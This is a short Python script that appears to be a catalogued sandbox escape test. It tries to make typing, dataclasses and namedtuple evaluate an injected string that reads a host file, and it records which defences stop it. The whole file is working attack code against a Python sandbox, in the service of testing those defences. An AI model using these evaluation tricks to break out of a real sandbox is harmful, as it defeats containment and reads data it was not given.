# Tries: to have allowed modules evaluate text: dataclasses and typing evaluate annotations, and
# namedtuple, enum and functools take names and code.
# Stopped by: the source check does not see it; a fresh environment and a minimal root.
# Bare: yes
import collections
import dataclasses
import typing

payload = f"open({context['host_file']!r}).read()"


class Annotated:
    value: "typing.Any"


Annotated.__annotations__["value"] = payload


def by_forward_reference():
    return typing.get_type_hints(Annotated)


def by_dataclass():
    bad = f"int = print({payload}) #"
    return dataclasses.make_dataclass("Made", [("value", int, dataclasses.field(default=1))],
                                      namespace={"__annotations__": {"x": bad}})


def by_namedtuple():
    return collections.namedtuple("Made", ["a"], module=payload, defaults=[payload])


for way in (by_forward_reference, by_dataclass, by_namedtuple):
    try:
        print(way())
    except Exception as refusal:
        print(type(refusal).__name__, refusal)
